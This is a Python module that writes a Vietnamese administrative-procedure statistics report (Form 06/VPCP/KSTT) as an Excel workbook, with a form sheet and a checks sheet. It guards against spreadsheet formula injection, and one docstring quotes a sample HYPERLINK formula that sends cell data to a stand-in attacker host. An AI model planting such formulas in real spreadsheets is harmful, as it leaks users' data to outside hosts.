"""The statistical report as an Excel workbook laid out like Biểu số 06/VPCP/KSTT (private).

openpyxl (the ``excel`` extra) is imported only when a workbook is written.
Every text cell is written as text (data type ``s``), never as a formula: a
label beginning with ``=``, ``+``, ``-`` or ``@`` is also marked as quoted text
(``quotePrefix``, what typing a leading ``'`` in Excel does), so editing the
cell does not turn it into a formula either (docs/security.md).
"""

from __future__ import annotations

from typing import TYPE_CHECKING, Any, Final

from lapvo_cchc._text import is_formula_text
from lapvo_cchc.errors import MissingExtraError
from lapvo_cchc.kpi import FORM_COLUMNS
from lapvo_cchc.kpi.counting import IDENTITIES
from lapvo_cchc.reports._render import group_label

if TYPE_CHECKING:
    from lapvo_cchc.kpi import Lang, Report

__all__ = ["write_xlsx"]

_XLSX_TEXT: Final[dict[str, dict[str, str]]] = {
    "vi": {
        "sheet": "Biểu 06",
        "checks": "Kiểm tra",
        "form": "Biểu số 06/VPCP/KSTT",
        "title": "TÌNH HÌNH, KẾT QUẢ GIẢI QUYẾT THỦ TỤC HÀNH CHÍNH TẠI CƠ QUAN, ĐƠN VỊ "
        "TRỰC TIẾP GIẢI QUYẾT THỦ TỤC HÀNH CHÍNH",
        "period": "Kỳ báo cáo: {label} (từ ngày {start:%d/%m/%Y} đến ngày {end:%d/%m/%Y})",
        "unit": "Đơn vị tính: Số hồ sơ TTHC",
        "stt": "STT",
        "received": "Số hồ sơ nhận giải quyết",
        "resolved": "Số hồ sơ đã giải quyết",
        "in_progress": "Số hồ sơ đang giải quyết",
        "outside": "Ngoài biểu: không tính vào (7), (11)",
        "total": "Tổng số",
        "in_period": "Trong kỳ",
        "online": "Trực tuyến",
        "offline": "Trực tiếp, dịch vụ bưu chính",
        "carried": "Từ kỳ trước",
        "early": "Trước hạn",
        "on_time": "Đúng hạn",
        "late": "Quá hạn",
        "within": "Trong hạn",
        "overdue": "Quá hạn",
        "withdrawn": "Rút hồ sơ",
        "stopped": "Dừng xử lý, từ chối",
        "identities": "(3) = (4) + (5) + (6); (7) = (8) + (9) + (10); (11) = (12) + (13); "
        "(3) = (7) + (11) + (14) + (15).",
        "ok": "Các đẳng thức đều khớp (trang Kiểm tra).",
        "broken": "{n} đẳng thức không khớp: xem trang Kiểm tra.",
        "checks_title": "Kiểm tra đẳng thức của biểu và các tỷ lệ (tử số, mẫu số)",
        "match": "Khớp",
        "mismatch": "Không khớp",
        "findings": "Phát hiện",
        "none": "Không có",
        "rates": "Tỷ lệ",
    },
    "en": {
        "sheet": "Form 06",
        "checks": "Checks",
        "form": "Form 06/VPCP/KSTT",
        "title": "ADMINISTRATIVE PROCEDURE DOSSIERS HANDLED BY THE AGENCIES THAT RESOLVE THEM",
        "period": "Reporting period: {label} ({start:%d/%m/%Y} to {end:%d/%m/%Y})",
        "unit": "Unit: dossiers",
        "stt": "No.",
        "received": "Dossiers to handle",
        "resolved": "Resolved",
        "in_progress": "In progress",
        "outside": "Outside the form: not in (7), (11)",
        "total": "Total",
        "in_period": "Received in the period",
        "online": "Online",
        "offline": "In person or by post",
        "carried": "Carried over",
        "early": "Early",
        "on_time": "On time",
        "late": "Late",
        "within": "Within the deadline",
        "overdue": "Overdue",
        "withdrawn": "Withdrawn",
        "stopped": "Stopped or refused",
        "identities": "(3) = (4) + (5) + (6); (7) = (8) + (9) + (10); (11) = (12) + (13); "
        "(3) = (7) + (11) + (14) + (15).",
        "ok": "Every identity holds (see the Checks sheet).",
        "broken": "{n} identities broken: see the Checks sheet.",
        "checks_title": "Identities of the form and the rates (numerator, denominator)",
        "match": "holds",
        "mismatch": "BROKEN",
        "findings": "Findings",
        "none": "None",
        "rates": "Rates",
    },
}  # fmt: skip
_XLSX_HEADS: Final[dict[str, tuple[tuple[str, ...], tuple[str, ...]]]] = {
    "vi": (
        ("Dòng", "Đẳng thức", "Vế trái", "Vế phải", "Kết quả"),
        ("Dòng", "Chỉ tiêu", "Tên chỉ tiêu", "Tử số", "Giá trị tử số", "Mẫu số",
         "Giá trị mẫu số", "Tỷ lệ", "Giá trị chính xác"),
    ),
    "en": (
        ("Row", "Identity", "Left", "Right", "Result"),
        ("Row", "Indicator", "Title", "Numerator", "Numerator value", "Denominator",
         "Denominator value", "Rate", "Exact value"),
    ),
}  # fmt: skip
"""The column heads of the identity and rate tables of the checks sheet."""
_DIM_VI: Final = {
    "level": "Cấp", "agency": "Cơ quan, đơn vị", "field": "Lĩnh vực",
    "procedure": "Thủ tục hành chính", "channel": "Hình thức nộp", "month": "Tháng",
    "successor": "Đơn vị kế thừa",
}  # fmt: skip
_DIM_EN: Final = {
    "level": "Level", "agency": "Agency", "field": "Field", "procedure": "Procedure",
    "channel": "Channel", "month": "Month", "successor": "Successor unit",
}  # fmt: skip
# (first column, last column, first row, last row, text key) of the header, rows 5-7;
# columns 3-15 hold the thirteen FORM_COLUMNS in order.
_XLSX_HEAD: Final = (
    (1, 1, 5, 7, "stt"), (2, 2, 5, 7, "group"),
    (3, 6, 5, 5, "received"), (3, 3, 6, 7, "total"), (4, 5, 6, 6, "in_period"),
    (4, 4, 7, 7, "online"), (5, 5, 7, 7, "offline"), (6, 6, 6, 7, "carried"),
    (7, 10, 5, 5, "resolved"), (7, 7, 6, 7, "total"), (8, 8, 6, 7, "early"),
    (9, 9, 6, 7, "on_time"), (10, 10, 6, 7, "late"),
    (11, 13, 5, 5, "in_progress"), (11, 11, 6, 7, "total"), (12, 12, 6, 7, "within"),
    (13, 13, 6, 7, "overdue"),
    (14, 15, 5, 5, "outside"), (14, 14, 6, 7, "withdrawn"), (15, 15, 6, 7, "stopped"),
)  # fmt: skip
_XLSX_FIRST_DATA_ROW: Final = 9
_LAST_COL: Final = 2 + len(FORM_COLUMNS)


def write_xlsx(report: Report, path: str, lang: Lang = "vi") -> None:
    """Write the report as an Excel workbook laid out like Biểu số 06/VPCP/KSTT (needs openpyxl).

    The first sheet is the form: the form number, the title and the period
    (rows 1-4); three header rows with the merged group cells of the form
    (rows 5-7: "Số hồ sơ nhận giải quyết" over columns 3-6 with "Trong kỳ"
    over 4-5, "Số hồ sơ đã giải quyết" over 7-10, "Số hồ sơ đang giải
    quyết" over 11-13, and withdrawn (14) and stopped (15) outside the form);
    the column numbers (1)...(15) on row 8; one row per group from row 9
    (STT, the group label, the counts), then the totals row and notes. The
    second sheet lists every identity checked on every row (left, right,
    holds or broken), the report's findings, and every rate of every row
    with its numerator and denominator (names and counts), the rate and its
    exact value. Labels are Vietnamese (``lang="vi"``) or English.

    Raises:
        MissingExtraError: openpyxl is not installed (``pip install "lapvo-cchc[excel]"``).

    Example:
        >>> import pathlib, tempfile
        >>> from lapvo_cchc.kpi import Period, report
        >>> out = pathlib.Path(tempfile.mkdtemp()) / "bieu06.xlsx"
        >>> write_xlsx(report([], Period.parse("2020-H1")), str(out))
        >>> import openpyxl
        >>> openpyxl.load_workbook(out).sheetnames
        ['Biểu 06', 'Kiểm tra']
    """
    try:
        import openpyxl  # type: ignore[import-untyped,import-not-found,unused-ignore]
    except ImportError:
        raise MissingExtraError(
            'writing .xlsx needs openpyxl: pip install "lapvo-cchc[excel]"'
        ) from None
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = _XLSX_TEXT[lang]["sheet"]
    _write_form(ws, report, lang)
    _write_checks(wb.create_sheet(_XLSX_TEXT[lang]["checks"]), report, lang)
    for sheet in wb.worksheets:
        _text_not_formulas(sheet)
    wb.save(path)


def _text_not_formulas(ws: Any) -> None:
    """Make every text cell a string cell; quote-prefix the ones that look like formulas.

    openpyxl stores any string beginning with ``=`` as a formula: a group label
    ``=HYPERLINK("http://evil.example/?x="&A1,"click")`` would be a live link
    that sends the sheet's data away. The workbook holds no formula of its own.
    """
    for row in ws.iter_rows():
        for cell in row:
            if isinstance(cell.value, str):
                cell.data_type = "s"
                if is_formula_text(cell.value):
                    cell.quotePrefix = True


def _write_form(ws: Any, report: Report, lang: Lang) -> None:
    """The first sheet: title rows, the merged header of the form, column numbers, counts."""
    from openpyxl.styles import (  # type: ignore[import-untyped,import-not-found,unused-ignore]
        Alignment,
        Border,
        Font,
        Side,
    )

    thin = Side(style="thin")
    box = Border(left=thin, right=thin, top=thin, bottom=thin)

    text = _XLSX_TEXT[lang]
    dims = _DIM_VI if lang == "vi" else _DIM_EN
    group_head = " / ".join(dims.get(d, d) for d in report.by) or text["total"]
    bold = Font(bold=True)
    center = Alignment(horizontal="center", vertical="center", wrap_text=True)
    p = report.period
    ws.merge_cells(start_row=1, start_column=1, end_row=1, end_column=3)
    ws.cell(1, 1, text["form"]).font = bold
    for r, value in (
        (2, text["title"]),
        (3, text["period"].format(label=p.label, start=p.start, end=p.end)),
    ):
        ws.merge_cells(start_row=r, start_column=1, end_row=r, end_column=_LAST_COL)
        cell = ws.cell(r, 1, value)
        cell.alignment = center
        cell.font = Font(bold=r == 2, size=13 if r == 2 else 11)
    ws.row_dimensions[2].height = 36
    ws.merge_cells(start_row=4, start_column=12, end_row=4, end_column=_LAST_COL)
    ws.cell(4, 12, text["unit"]).alignment = Alignment(horizontal="right")
    last = 13 if report.layout == "circular" else _LAST_COL
    for c1, c2, r1, r2, key in _XLSX_HEAD:
        if c1 > last:
            continue
        if (c1, r1) != (c2, r2):
            ws.merge_cells(start_row=r1, start_column=c1, end_row=r2, end_column=c2)
        ws.cell(r1, c1, group_head if key == "group" else text[key])
        for r in range(r1, r2 + 1):
            for c in range(c1, c2 + 1):
                ws.cell(r, c).border = box
                ws.cell(r, c).alignment = center
                ws.cell(r, c).font = bold
    for c in range(1, last + 1):
        cell = ws.cell(8, c, f"({c})")
        cell.alignment = center
        cell.border = box
        cell.font = Font(italic=True)
    r = _XLSX_FIRST_DATA_ROW
    for n, row in enumerate((*report.rows, report.total), start=1):
        is_total = not row.key
        values: list[object] = [
            None if is_total else n,
            group_label(report, row, lang),
            *(row.counts[name] for name in FORM_COLUMNS[: last - 2]),
        ]
        for c, item in enumerate(values, start=1):
            cell = ws.cell(r, c, item)
            cell.border = box
            if c >= 3:
                cell.number_format = "#,##0"
            if c == 1:
                cell.alignment = Alignment(horizontal="center")
            if is_total:
                cell.font = bold
        r += 1
    ws.cell(r + 1, 2, _identities(report, text)).font = Font(italic=True)
    ws.cell(
        r + 2,
        2,
        text["broken"].format(n=len(report.findings)) if report.findings else text["ok"],
    )
    for k, note in enumerate(report.notes, start=r + 3):
        ws.cell(k, 2, note.text(lang))
    _lay_out(ws)


def _identities(report: Report, text: dict[str, str]) -> str:
    """The identities line: without columns 14-15 in the circular layout (see its note)."""
    if report.layout == "circular":
        return text["identities"].split("; (3) = (7)")[0] + "."
    return text["identities"]


def _lay_out(ws: Any) -> None:
    """Column widths, header heights, frozen header, landscape page one form wide."""
    from openpyxl.utils import (  # type: ignore[import-untyped,import-not-found,unused-ignore]
        get_column_letter,
    )

    ws.column_dimensions["A"].width = 6
    ws.column_dimensions["B"].width = 34
    for c in range(3, _LAST_COL + 1):
        ws.column_dimensions[get_column_letter(c)].width = 12
    for r in (5, 6, 7):
        ws.row_dimensions[r].height = 32
    ws.freeze_panes = ws.cell(_XLSX_FIRST_DATA_ROW, 3)
    ws.page_setup.orientation = "landscape"
    ws.page_setup.fitToWidth = 1
    ws.page_setup.fitToHeight = 0
    ws.sheet_properties.pageSetUpPr.fitToPage = True


def _write_checks(ws: Any, report: Report, lang: Lang) -> None:
    """The second sheet: identities per row, findings, rates with numerators and denominators."""
    from openpyxl.styles import Font  # type: ignore[import-untyped,import-not-found,unused-ignore]

    bold = Font(bold=True)

    text = _XLSX_TEXT[lang]
    ws.append([text["checks_title"]])
    ws.cell(1, 1).font = bold
    ws.append([])
    identity_head, rate_head = _XLSX_HEADS[lang]
    ws.append(list(identity_head))
    head_rows = [ws.max_row]
    rows = (*report.rows, report.total)
    for row in rows:
        label = group_label(report, row, lang)
        for name, whole, parts in IDENTITIES:
            left = row.counts[whole]
            right = sum(row.counts[part] for part in parts)
            ws.append([label, name, left, right, text["match" if left == right else "mismatch"]])
    ws.append([])
    ws.append([text["findings"]])
    head_rows.append(ws.max_row)
    for f in report.findings:
        ws.append([f.row, f.identity, f.left, f.right, text["mismatch"]])
    if not report.findings:
        ws.append([text["none"]])
    ws.append([])
    ws.append([text["rates"]])
    ws.append(list(rate_head))
    head_rows += [ws.max_row - 1, ws.max_row]
    indicators = {ind.name: ind for ind in report.registry}
    for row in rows:
        label = group_label(report, row, lang)
        for name, ratio in report.rates(row).items():
            ind = indicators.get(name)
            title = "" if ind is None else ind.title_vi if lang == "vi" else ind.title_en
            value = ratio.value
            ws.append(
                [
                    label,
                    name,
                    title,
                    ratio.numerator_name,
                    ratio.numerator,
                    ratio.denominator_name,
                    ratio.denominator,
                    None if value is None else float(value),
                    "" if value is None else f"{value.numerator}/{value.denominator}",
                ]
            )
            is_percent = ind is None or ind.unit == "percent"
            ws.cell(ws.max_row, 8).number_format = "0.0%" if is_percent else "0.00"
            ws.cell(ws.max_row, 5).number_format = "#,##0"
            ws.cell(ws.max_row, 7).number_format = "#,##0"
    for r in head_rows:
        for cell in ws[r]:
            cell.font = bold
    for letter, width in zip("ABCDEFGHI", (28, 34, 48, 30, 14, 30, 14, 10, 18), strict=True):
        ws.column_dimensions[letter].width = width
